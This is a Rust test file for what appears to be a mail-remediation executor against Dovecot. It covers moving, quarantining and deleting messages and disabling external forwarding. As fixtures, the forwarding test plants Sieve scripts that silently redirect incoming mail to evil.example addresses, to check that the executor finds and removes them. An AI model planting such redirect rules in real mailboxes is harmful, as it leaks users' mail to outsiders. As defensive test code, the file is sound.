//! Dovecot with three mailboxes. Mail is delivered by its own delivery agent, so that a Sieve script is in force or not
//! by what is forwarded.

use domain::{Action, Outcome};
use executors::mail::Mail;
use executors::secret::Secret;
use serde_json::json;
use service::executor::Attempt;

use crate::order::{action, attempt, ends};
use crate::servers::dovecot::Dovecot;
use crate::servers::port;

fn message(of: &str, user: &str, id: &str) -> Action {
    let entity =
        json!({ "kind": "email_message", "message_id": id, "subject": "Hello", "sender": "a@x.example" });
    action(of, entity, json!({ "kind": "mailbox", "name": format!("{user}@corp.example") }), json!({}))
}

fn cluster(of: &str, id: &str) -> Action {
    let entity = json!({ "kind": "email_cluster", "cluster_id": id, "subject": "Hello", "messages": 2 });
    action(of, entity, json!({ "kind": "mailbox", "name": "all" }), json!({}))
}

fn mailbox(of: &str, user: &str) -> Action {
    let address = format!("{user}@corp.example");
    let entity = json!({ "kind": "mailbox", "address": address });
    action(of, entity, json!({ "kind": "mailbox", "name": address }), json!({}))
}

#[tokio::test]
async fn a_message_is_moved_and_comes_back() {
    let Some(dovecot) = Dovecot::start() else { return };
    let mail = dovecot.executor(json!({}));
    mail.test().await.unwrap();
    assert_eq!(mail.types().len(), 9);
    // The ids that a careless search would take for the same.
    for id in ["<one@x.example>", "<one@x.example>more", "<no-one@x.example>"] {
        dovecot.deliver("kim", id);
    }
    dovecot.deliver("lee", "<one@x.example>");
    for (of, undo, folder) in [
        ("soft_delete_email", "move_to_inbox", "Recoverable Items"),
        ("move_to_junk", "move_to_inbox", "Junk"),
        ("move_to_deleted_items", "move_to_inbox", "Trash"),
    ] {
        assert_eq!(dovecot.folders("kim", "<one@x.example>"), ["INBOX"]);
        let said = ends(&mail, &message(of, "kim", "<one@x.example>"), Outcome::Completed).await;
        assert!(said.ends_with(": 1 message in kim@corp.example."), "{said}");
        assert_eq!(dovecot.folders("kim", "<one@x.example>"), [folder]);
        ends(&mail, &message(of, "kim", "<one@x.example>"), Outcome::Skipped).await;
        let repeat = attempt(&mail, &message(of, "kim", "<one@x.example>"), true).await;
        assert!(matches!(repeat, Attempt::Ended(Outcome::Completed, _)), "{repeat:?}");
        ends(&mail, &message(undo, "kim", "<one@x.example>"), Outcome::Completed).await;
    }
    assert_eq!(dovecot.folders("kim", "<one@x.example>"), ["INBOX"]);
    ends(&mail, &message("hard_delete_email", "kim", "<one@x.example>"), Outcome::Completed).await;
    assert_eq!(dovecot.folders("kim", "<one@x.example>"), Vec::<String>::new());
    for (user, id) in
        [("kim", "<one@x.example>more"), ("kim", "<no-one@x.example>"), ("lee", "<one@x.example>")]
    {
        assert_eq!(dovecot.folders(user, id), ["INBOX"], "{user} {id}");
    }
    let said = ends(&mail, &message("soft_delete_email", "nobody", "<one@x.example>"), Outcome::Failed).await;
    assert_eq!(said, "There is no mailbox nobody@corp.example.");
}

#[tokio::test]
async fn a_cluster_is_quarantined_in_all_mailboxes_and_released() {
    let Some(dovecot) = Dovecot::start() else { return };
    let mail = dovecot.executor(json!({}));
    let id = "<two@x.example>";
    for user in ["kim", "lee"] {
        dovecot.deliver(user, id);
    }
    let said = ends(&mail, &cluster("quarantine_email", id), Outcome::Completed).await;
    assert!(said.ends_with(": 2 messages in kim@corp.example, lee@corp.example."), "{said}");
    for user in ["kim", "lee"] {
        assert_eq!(dovecot.folders(user, id), Vec::<String>::new());
    }
    assert_eq!(dovecot.folders("quarantine", id), ["kim@corp=2Eexample", "lee@corp=2Eexample"]);
    // One of them alone, then the rest.
    ends(&mail, &message("release_email_from_quarantine", "lee", id), Outcome::Completed).await;
    assert_eq!(dovecot.folders("lee", id), ["INBOX"]);
    assert_eq!(dovecot.folders("quarantine", id), ["kim@corp=2Eexample"]);
    ends(&mail, &cluster("release_email_from_quarantine", id), Outcome::Completed).await;
    assert_eq!(dovecot.folders("kim", id), ["INBOX"]);
    assert_eq!(dovecot.folders("quarantine", id), Vec::<String>::new());
    ends(&mail, &cluster("hard_delete_email", id), Outcome::Completed).await;
    assert_eq!(dovecot.folders("lee", id), Vec::<String>::new());
}

#[tokio::test]
async fn forwarding_outside_is_turned_off_and_on_again() {
    let Some(dovecot) = Dovecot::start() else { return };
    let mail = dovecot.executor(json!({}));
    let script = dovecot.server.folder().join("script");
    std::fs::write(&script, "require [\"copy\"];\nredirect :copy \"kim@evil.example\";\n").unwrap();
    dovecot.doveadm(&["sieve", "put", "-u", "kim@corp.example", "-a", "main", script.to_str().unwrap()]);
    // As a person writes it by hand: no list of scripts shows it.
    let home = dovecot.server.folder().join("mail/lee@corp.example");
    dovecot.deliver("lee", "<before@x.example>");
    std::fs::write(home.join(".dovecot.sieve"), "redirect \"lee@evil.example\";\n").unwrap();
    for (user, name) in [("kim", "main"), ("lee", "dovecot.orig")] {
        let before = dovecot.forwarded();
        let delivers = |id: &str| {
            dovecot.deliver(user, id);
            dovecot.forwarded() - before
        };
        assert_eq!(delivers("<1@x.example>"), 1, "{user}");
        let said = ends(&mail, &mailbox("turn_off_external_mail_forwarding", user), Outcome::Completed).await;
        assert!(said.contains(&format!("to {user}@evil.example")) && said.contains(name), "{said}");
        assert_eq!(delivers("<2@x.example>"), 1, "{user}");
        assert_eq!(dovecot.folders(user, "<2@x.example>"), ["INBOX"], "what is not forwarded is kept");
        ends(&mail, &mailbox("turn_off_external_mail_forwarding", user), Outcome::Skipped).await;
        let said = ends(&mail, &mailbox("restore_mail_forwarding", user), Outcome::Completed).await;
        assert!(said.contains(name), "{said}");
        assert_eq!(delivers("<3@x.example>"), 2, "{user}");
        let listed = dovecot.doveadm(&["sieve", "list", "-u", &format!("{user}@corp.example")]);
        assert!(
            listed.contains(name) && listed.contains("ACTIVE") && !listed.contains("countersign"),
            "{listed}"
        );
        ends(&mail, &mailbox("restore_mail_forwarding", user), Outcome::Skipped).await;
    }
    // Nothing to take out: nothing is left behind.
    ends(&mail, &mailbox("turn_off_external_mail_forwarding", "quarantine"), Outcome::Skipped).await;
    assert_eq!(dovecot.doveadm(&["sieve", "list", "-u", "quarantine@corp.example"]), "");
    // What can't be read through is no "no forwarding".
    std::fs::write(&script, "require [\"include\"];\ninclude \"more\";\n").unwrap();
    dovecot.doveadm(&["sieve", "put", "-u", "kim@corp.example", "-a", "main", script.to_str().unwrap()]);
    let said = ends(&mail, &mailbox("turn_off_external_mail_forwarding", "kim"), Outcome::Failed).await;
    assert!(said.contains("it uses include"), "{said}");
    // Who chose another script meanwhile keeps it.
    std::fs::write(&script, "redirect \"kim@evil.example\";\n").unwrap();
    dovecot.doveadm(&["sieve", "put", "-u", "kim@corp.example", "-a", "main", script.to_str().unwrap()]);
    ends(&mail, &mailbox("turn_off_external_mail_forwarding", "kim"), Outcome::Completed).await;
    std::fs::write(&script, "keep;\n").unwrap();
    dovecot.doveadm(&["sieve", "put", "-u", "kim@corp.example", "-a", "other", script.to_str().unwrap()]);
    let said = ends(&mail, &mailbox("restore_mail_forwarding", "kim"), Outcome::Failed).await;
    assert!(said.contains("another script since (other)"), "{said}");
}

#[tokio::test]
async fn what_is_wrong_with_the_settings_is_one_sentence() {
    let Some(dovecot) = Dovecot::start() else { return };
    let place = format!("127.0.0.1:{}", dovecot.port);
    let settings = json!({ "url": format!("http://{place}") });
    let wrong = serde_json::from_value(settings).unwrap();
    let wrong = Mail::new("mail".to_owned(), wrong, Secret::new("wrong".to_owned())).unwrap();
    let said = wrong.test().await.unwrap_err();
    assert_eq!(said, format!("{place} does not take the key: it must be that of doveadm_api_key."));
    let said = dovecot.executor(json!({ "quarantine": "nobody@corp.example" })).test().await.unwrap_err();
    assert!(said.ends_with("There is no mailbox nobody@corp.example."), "{said}");
    let closed = format!("http://127.0.0.1:{}", port());
    let down = dovecot.executor(json!({ "url": closed }));
    assert!(down.test().await.unwrap_err().contains("refuses the connection"));
    let delete = message("hard_delete_email", "kim", "<one@x.example>");
    assert!(matches!(attempt(&down, &delete, false).await, Attempt::NotSent(_)));
}
